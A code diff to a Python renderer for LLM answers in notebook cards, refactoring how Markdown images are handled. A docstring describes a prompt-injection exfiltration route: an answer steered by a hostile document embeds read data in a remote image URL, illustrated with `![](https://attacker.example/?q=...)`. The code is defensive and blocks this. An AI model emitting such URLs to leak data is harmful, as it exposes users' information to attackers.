@@ -6,7 +6,7 @@ otherwise a small built-in renderer that covers what model answers mostly contai
 headings, lists, block quotes, paragraphs, **bold**, *italic*, `code` and [links](https://...).
 Either way, nothing from the answer is ever passed through as raw HTML, `javascript:` / `data:`
 links are neutralised, links open in a new tab (`target=_blank rel="noopener noreferrer"`), and
-an image is loaded only when it is inline data (others become links: see `_image`).
+an image is loaded only when it is inline data (others become links: see `_loads_image`).
 The HTML carries classes only; `style.py` holds the stylesheet (theme CSS variables).
 """
 
@@ -77,7 +77,10 @@ def _mistune():
                     return super().link(text, url, title).replace("<a", "<a" + _LINK_ATTRS, 1)
 
                 def image(self, text, url, title=None):  # noqa: D401
-                    return _image(self, text, url, title)
+                    if _loads_image(url):  # (no referrer goes with it)
+                        return super().image(text, url, title).replace(
+                            "<img", '<img referrerpolicy="no-referrer"', 1)
+                    return _image_link(self, text, url)
 
                 def table(self, text):  # wide tables scroll inside the card
                     return f'<div class="llmcells-table"><table>\n{text}</table></div>\n'
@@ -96,17 +99,18 @@ def _mistune():
 _INLINE_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);", re.I)
 
 
-def _image(renderer, text: str, url: str, title: str | None) -> str:
-    """An answer's Markdown image. Loading it would send a request the moment the card is shown
-    (or a saved notebook opened), and an answer steered by a hostile document can put anything
-    it read into that URL (`![](https://attacker.example/?q=...)`): so only inline data images
-    are shown, and any other becomes a link the user may open, unless
-    `configure(remote_images=True)`. Either way no referrer goes with it."""
+def _loads_image(url: str) -> bool:
+    """Whether a card shows an answer's Markdown image. Loading it would send a request the
+    moment the card is shown (or a saved notebook opened), and an answer steered by a hostile
+    document can put anything it read into that URL (`![](https://attacker.example/?q=...)`):
+    so only inline data images are shown, unless `configure(remote_images=True)`."""
     from ..config import settings
 
-    if settings.remote_images or _INLINE_IMAGE.match(url.strip()):
-        return renderer.__class__.__mro__[1].image(renderer, text, url, title).replace(
-            "<img", '<img referrerpolicy="no-referrer"', 1)
+    return settings.remote_images or bool(_INLINE_IMAGE.match(url.strip()))
+
+
+def _image_link(renderer, text: str, url: str) -> str:
+    """An image not loaded: a link the user may open, labelled with its alt text."""
     from mistune.util import striptags
 
     label = striptags(text).strip() or "image"  # (text is the alt text as HTML, escaped already)
